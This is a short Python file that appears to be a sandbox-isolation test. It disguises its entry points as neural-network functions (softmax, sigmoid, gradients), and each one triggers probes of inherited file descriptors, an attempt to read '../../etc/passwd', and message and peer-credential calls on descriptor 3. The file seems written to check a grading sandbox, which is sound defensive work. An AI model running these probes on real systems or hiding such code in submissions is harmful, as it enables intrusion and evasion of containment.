"""Uses every descriptor that it may have inherited."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, os

def attack():
    for number in range(4, 4096):
        try:
            os.fstat(number)
        except OSError:
            continue
        print("BREACH descriptor", number)
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (0, 1, 2, 3):
        attempt("openat below", lambda: os.open("../../etc/passwd", os.O_RDONLY, dir_fd=number))
        attempt("fchdir", lambda: os.fchdir(number))
    if libc.recvmsg(3, bytes(56), 0x40) >= 0:
        print("BREACH recvmsg")
    if libc.sendmsg(3, bytes(56), 0x40) >= 0:
        print("BREACH sendmsg")
    if libc.getsockopt(3, 1, 17, ctypes.create_string_buffer(12), ctypes.byref(ctypes.c_int(12))) == 0:
        print("BREACH peer credentials")

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
